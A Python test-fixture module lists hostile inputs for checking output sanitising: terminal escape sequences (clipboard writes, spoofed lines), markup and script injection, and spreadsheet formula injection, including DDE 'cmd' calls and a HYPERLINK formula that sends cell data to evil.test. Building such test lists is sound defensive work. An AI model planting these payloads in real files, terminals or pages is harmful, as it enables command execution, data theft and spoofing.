"""Texts that evidence could carry to harm who reads it."""

CONTROLS = [chr(code) for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))]

REORDERING = [
    chr(code) for code in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
]

INVISIBLE = [
    chr(code)
    for code in (
        *(0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180E, 0x200B, 0x200C, 0x200D),
        *(0x2028, 0x2029, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x206A, 0x206F, 0x2800, 0x3164),
        *(
            0xFE00,
            0xFE0F,
            0xFEFF,
            0xFFA0,
            0xFFF9,
            0xFFFB,
            0xE0001,
            0xE0041,
            0xE007F,
            0xE0100,
            0xE01EF,
        ),
        *(0x00A0, 0x2003, 0x202F, 0x205F, 0x3000, 0xD800, 0xDFFF, 0xDC80, 0xE000, 0x10FFFF),
    )
]

TERMINAL = [
    "\x1b[2J\x1b[H",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.test\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]1337;File=name=eA==:AAAA\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b[6n",
    "\x1bc",
    "\x1b[1A\x1b[2KNO SIGN",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x90q\x9c",
    "a\rNO SIGN  EXCH01",
    "a\b\b\bNO SIGN",
    "line\nNO SIGN  EXCH01\nline",
    "line\r\n\r\nline",
    "\t\t\ttabs\t",
    "\x0b\x0c\x85\u2028\u2029",
]

MARKUP = [
    "[red]x[/red]",
    "[bold]",
    "[/]",
    "[/nothing]",
    "[link=http://evil.test]x[/link]",
    "[@click=app.bell]x[/]",
    ":skull: :warning:",
    "<script>alert(1)</script>",
    "**x** `x` [x](http://evil.test)",
    "{0} {name} %s %(x)s $x ${x}",
]

FORMULA_STARTS = [
    *("=", "+", "-", "@", "|", "\t=", "\r=", "\n=", "\0=", " =", "\u3000="),
    *("\uff1d", "\uff0b", "\uff0d", "\uff20"),
]
FORMULAS = [
    start + rest
    for start in FORMULA_STARTS
    for rest in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://evil.test?x="&A1,"x")',
        'SUM(1)*cmd|"/C calc"!A0',
    )
]

SEPARATORS = [
    "x;=1+1",
    'x;"=1+1"',
    "x; =1+1",
    "x;\t@SUM(1)",
    'x",=1+1,"',
    '"=1+1',
    "x\n=1+1,2,3",
    "x\r=1+1",
    "x,=1+1",
    "'=1+1",
    ";=1;=2;-3",
    '";=1+1;"',
]

LONG = [
    "A" * 10_000,
    "word " * 2_000,
    "\x1b" * 10_000,
    "\u202e" * 10_000,
    "\n" * 10_000,
    "\u65e5\u672c" * 5_000,
    "e" + "\u0301" * 10_000,
    "\u0301" * 500,
    "Z\u0335\u0336\u0337\u0338\u0339" * 2_000,
    "\U0001f600" * 3_000,
    "\\" * 10_000,
    '"' * 10_000,
    "=" * 40_000,
    "x" * 31_990 + "\n\n\n\n\n\n\n",
]

ODD = [
    "",
    " ",
    "-",
    "\\x1b",
    "\u65e5\u672c\u8a9e",
    "na\u00efve caf\u00e9",
    "A\u030a",
    "\u0e01\u0e33",
    "\u1112\u1161\u11ab",
    "\u05e9\u05dc\u05d5\u05dd",
    "\u0645\u0631\u062d\u0628\u0627",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1e9\U0001f1ea",
    "\u2764\ufe0f",
    "\u212a\u0130\u0131",
]

PAYLOADS = [
    *CONTROLS,
    *(f"a{char}b" for char in REORDERING),
    *(f"a{char}b" for char in INVISIBLE),
    *TERMINAL,
    *MARKUP,
    *FORMULAS,
    *SEPARATORS,
    *LONG,
    *ODD,
]
